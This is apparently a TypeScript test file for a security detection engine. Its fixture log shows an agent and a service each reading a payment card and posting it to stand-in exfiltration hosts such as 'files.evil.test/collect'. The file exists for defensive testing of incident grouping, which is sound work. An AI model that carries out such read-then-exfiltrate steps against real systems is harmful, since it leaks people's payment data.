import { expect, test } from 'vitest';
import { listIncidents } from '#shared/engine/incidents/list-incidents.ts';
import { listFindings } from '#shared/engine/store/read/findings/findings.ts';
import { detect } from '#test/support/detect.ts';

const RULES = ['sensitive-read-to-external-write', 'jwt-lifetime'];
const claims = { iss: 'https://id.acme.test', sub: 'support-bot', iat: 1_790_000_000, exp: 1_890_000_000 };
/** Two programs that know nothing of each other each read a card and send it away, three hours apart. */
const TWO = `
  00:02  agent:support-bot  GET   api.acme.test/v1/cards/cus_90aa17b2  200  in=har.har s=3 types=payment-card trace=t1 cred=jwt-1 => $.number=4929fk7714xx2203
  00:06  -                  POST  files.evil.test/collect              200  in=har.har bytes=640 sent=payment-card trace=t1 <= $.a=4929fk7714xx2203
  03:00  service:export     GET   api.acme.test/v1/cards/cus_77bb22c1  200  in=har.har s=3 types=payment-card trace=t2 cred=jwt-2 => $.number=5105fk8814xx3304
  03:04  -                  POST  drop.other.test/take                 200  in=har.har bytes=640 sent=payment-card trace=t2 <= $.a=5105fk8814xx3304`;
const estate = { servers: ['https://api.acme.test'], tokens: { 'jwt-1': { claims }, 'jwt-2': { claims: { ...claims, sub: 'export' } } } };

test('each incident has its own principals, credentials, calls, times and steps, and no weakness', async () => {
  const { db } = await detect(RULES, TWO, estate);
  const findings = listFindings(db);
  expect(findings.some(({ family }) => family === 'posture')).toBe(true);
  const incidents = listIncidents(db, findings);
  expect(incidents.map(({ number, principals, credentials, calls, steps }) => ({ number, principals, credentials, calls, steps: steps.length > 0 }))).toEqual([
    { number: 1, principals: ['p-support-bot'], credentials: ['jwt-1'], calls: 2, steps: true },
    { number: 2, principals: ['p-export'], credentials: ['jwt-2'], calls: 2, steps: true },
  ]);
  const [first, second] = incidents.map(({ window }) => window ?? ['', '']);
  expect((first?.[1] ?? '') < (second?.[0] ?? '')).toBe(true);
}); // prettier-ignore

test('a dismissed finding makes no incident', async () => {
  const { db } = await detect(RULES, TWO, estate);
  const findings = listFindings(db).map((finding) =>
    finding.family === 'incident' ? { ...finding, status: 'dismissed' as const } : finding,
  );
  expect(listIncidents(db, findings)).toEqual([]);
});
